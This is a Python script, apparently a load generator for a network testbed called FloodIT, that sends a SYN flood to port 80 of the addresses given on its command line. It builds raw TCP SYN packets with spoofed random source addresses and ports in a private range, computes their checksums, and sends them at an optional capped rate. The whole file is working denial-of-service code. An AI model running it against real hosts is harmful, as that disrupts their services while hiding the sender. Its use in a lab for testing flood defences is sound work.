"""SYN flood from spoofed sources, for FloodIT (run as root in the client's namespace).

usage: syn_flood.py TARGETS SECONDS MAX_SYNS [RATE]
  TARGETS   comma-separated IPv4 addresses; a repeated address gets a larger share
  SECONDS   send for this long, as fast as the machine allows ...
  MAX_SYNS  ... or until this many SYNs were sent
  RATE      at most this many SYNs per second (default: no limit)

Each SYN comes from a random address in 10.200.64.0/18 (outside the client's link 10.200.0.0/24
and the nodes' 10.200.1.0/24, so the real client's connections never collide with it) and a random
port, with a random sequence number and an MSS option, to port 80. The router should route the
replies into a blackhole. Prints one JSON line: {"sent":N,"seconds":S,"rate":R,"errors":E}.
"""
import json
import random
import socket
import struct
import sys
import time

SOURCE_NET = (10 << 24) | (200 << 16) | (64 << 8)  # 10.200.64.0/18
TCP_LEN = 24  # 20-byte header + MSS option


def fold(s):
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return s


def main():
    targets = [t for t in sys.argv[1].split(",") if t]
    seconds = float(sys.argv[2])
    limit = int(sys.argv[3])
    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
    # IPPROTO_RAW implies IP_HDRINCL; Linux fills in the IP checksum, the total length and (when zero) the id.
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    pkts = []
    for t in targets:
        dst = struct.unpack("!I", socket.inet_aton(t))[0]
        p = bytearray(20 + TCP_LEN)
        struct.pack_into("!BBHHHBBHII", p, 0, 0x45, 0, 20 + TCP_LEN, 0, 0x4000, 64, 6, 0, 0, dst)
        # TCP: ports, seq, ack, data offset 6 words, SYN, window, checksum, urgent, MSS 1460
        struct.pack_into("!HHIIBBHHHBBH", p, 20, 0, 80, 0, 0, 6 << 4, 0x02, 64240, 0, 0, 2, 4, 1460)
        # RFC 793 checksum over the pseudo-header and the segment, without the varying fields
        base = (dst >> 16) + (dst & 0xFFFF) + 6 + TCP_LEN + 80 + ((6 << 4) << 8 | 0x02) + 64240 + 0x0204 + 1460
        pkts.append((p, base, (t, 0)))
    rnd = random.Random()
    sent = errors = 0
    n = len(pkts)
    start = time.monotonic()
    deadline = start + seconds
    while sent < limit:
        if (sent & 255) == 0:
            now = time.monotonic()
            if now > deadline:
                break
            ahead = sent / rate - (now - start) if rate else 0
            if ahead > 0:
                time.sleep(ahead)
        p, base, addr = pkts[sent % n]
        r = rnd.getrandbits(62)
        src = SOURCE_NET | (r & 0x3FFF)
        sport = 1024 + ((r >> 14) % 64512)
        seq = (r >> 30) & 0xFFFFFFFF
        s = base + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)
        struct.pack_into("!I", p, 12, src)
        struct.pack_into("!HHI", p, 20, sport, 80, seq)
        struct.pack_into("!H", p, 36, ~fold(s) & 0xFFFF)
        try:
            sock.sendto(p, addr)
        except OSError:
            errors += 1  # ENOBUFS and the like: the flood outran the path
        sent += 1
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "rate": round(sent / elapsed), "errors": errors}))


if __name__ == "__main__":
    main()
